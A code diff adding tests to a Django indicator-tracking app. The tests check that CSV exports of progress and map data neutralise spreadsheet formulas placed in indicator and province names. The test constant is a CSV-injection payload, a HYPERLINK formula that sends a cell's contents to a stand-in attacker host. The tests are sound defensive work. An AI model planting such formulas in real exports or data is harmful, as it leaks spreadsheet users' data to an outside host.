@@ -227,3 +227,22 @@ def test_a_provisional_figure_is_shown_with_its_completeness_in_the_page_the_csv
     assert point["provisional"] is True and point["counted"] is False and point["approved"] == 1
     assert point["completeness"] == round(1 / point["expected"], 4)
     assert item["latest_value"] != 62.5
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
+
+
+def test_a_formula_in_an_indicator_name_is_exported_as_text_in_the_progress_csv(gia_lai_viewer):
+    from lotrinh.indicators.models import Target
+
+    target = Target.objects.filter(programme__code="binh-dinh-05-nq-tu").first()
+    Target.objects.filter(pk=target.pk).update(indicator_name=HOSTILE_NAME)
+    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
+    names = [row[0] for row in table[1:]]
+    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names
+
+
+def test_a_formula_in_a_province_name_is_exported_as_text_in_the_map_csv(client):
+    OrgUnit.objects.filter(structure=Structure.CURRENT, code="52").update(short_name=HOSTILE_NAME)
+    table = rows(client.get("/indicators/ho-so-cong-viec-truc-tuyen/map/", {"format": "csv"}))
+    assert next(row[:2] for row in table if row[0] == "52") == ["52", "'" + HOSTILE_NAME]
